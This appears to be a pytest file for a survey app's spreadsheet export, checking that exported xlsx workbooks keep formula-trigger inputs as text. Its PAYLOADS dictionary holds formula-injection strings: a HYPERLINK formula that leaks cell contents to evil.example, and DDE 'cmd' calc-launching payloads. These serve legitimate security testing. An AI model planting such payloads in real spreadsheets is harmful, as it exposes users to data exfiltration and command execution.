"""Formula injection: answers and comments starting with = + - @ tab CR LF stay text."""

from __future__ import annotations

import sqlalchemy as sa

from surveys.export.scorecard import build_scorecard
from surveys.export.text import FORMULA_TRIGGERS
from surveys.export.trends import build_trends
from surveys.responses.models import Answer
from tests.conftest import MINI_V1
from tests.export.helpers import calamine_sheets, formulas_in, openpyxl_book, table, values

PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
    "\n": "\n=1+1",
}


def shown(text: str) -> str:
    """A workbook keeps line endings as LF (XML turns CR into LF)."""
    return text.replace("\r", "\n")


def injection_round(create_version, create_country, create_round, create_submission, db):
    version = create_version(MINI_V1)
    countries = [
        create_country(f"X{i}", f"XX{i}", f"=Country {i}", f"=Pays {i}")
        for i in range(len(PAYLOADS))
    ]
    round_ = create_round(version, countries, period="=2026")
    for country, (trigger, payload) in zip(countries, PAYLOADS.items(), strict=True):
        submission = create_submission(
            round_,
            country,
            {"protection_focal_point": payload, "legal_notes": payload, "legal_tip_offence": "yes"},
            "submitted",
        )
        for answer in db.session.scalars(
            sa.select(Answer).where(Answer.submission_id == submission.id)
        ):
            answer.comment = f"{trigger}comment {payload}"
    db.session.commit()
    return round_, countries


def test_no_formula_and_the_same_text_back(
    create_version, create_country, create_round, create_submission, db, tmp_path
):
    round_, countries = injection_round(
        create_version, create_country, create_round, create_submission, db
    )
    path = tmp_path / "injection.xlsx"
    build_scorecard(round_.id, "en", path)
    assert formulas_in(path) == []
    book = openpyxl_book(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row), sheet.title
    for rows in (values(book["Responses"]), calamine_sheets(path)["Responses"]):
        tidy = table(rows, "Round")
        for country, (trigger, payload) in zip(countries, PAYLOADS.items(), strict=True):
            mine = {r["Question id"]: r for r in tidy if r["Country code"] == country.iso2}
            assert mine["protection_focal_point"]["Answer value"] == shown(payload)
            assert mine["legal_notes"]["Answer value"] == shown(payload)
            assert mine["legal_tip_offence"]["Comment"] == shown(f"{trigger}comment {payload}")
            assert mine["legal_tip_offence"]["Country"] == country.name("en")
            assert mine["legal_tip_offence"]["Period"] == "=2026"
    # The country sheet of a country named "=Country 0" is named after it, as text.
    assert "=Country 0" in book.sheetnames
    first = table(values(book["=Country 0"]), "Question")
    assert {r["Question id"]: r for r in first}["protection_focal_point"]["Answer"] == PAYLOADS["="]


def test_the_trends_workbook_is_safe_too(
    create_version, create_country, create_round, create_submission, db, tmp_path
):
    _, countries = injection_round(
        create_version, create_country, create_round, create_submission, db
    )
    path = tmp_path / "trends.xlsx"
    build_trends("mini", "en", path, with_responses=True)
    assert formulas_in(path) == []
    tidy = table(calamine_sheets(path)["Responses"], "Round")
    assert {r["Answer value"] for r in tidy if r["Question id"] == "protection_focal_point"} == {
        shown(p) for p in PAYLOADS.values()
    }
    wide = table(values(openpyxl_book(path)["Indices (wide)"]), "Country code")
    assert {r["Country"] for r in wide} == {c.name("en") for c in countries}


def test_every_trigger_is_covered():
    assert set(PAYLOADS) == set(FORMULA_TRIGGERS)
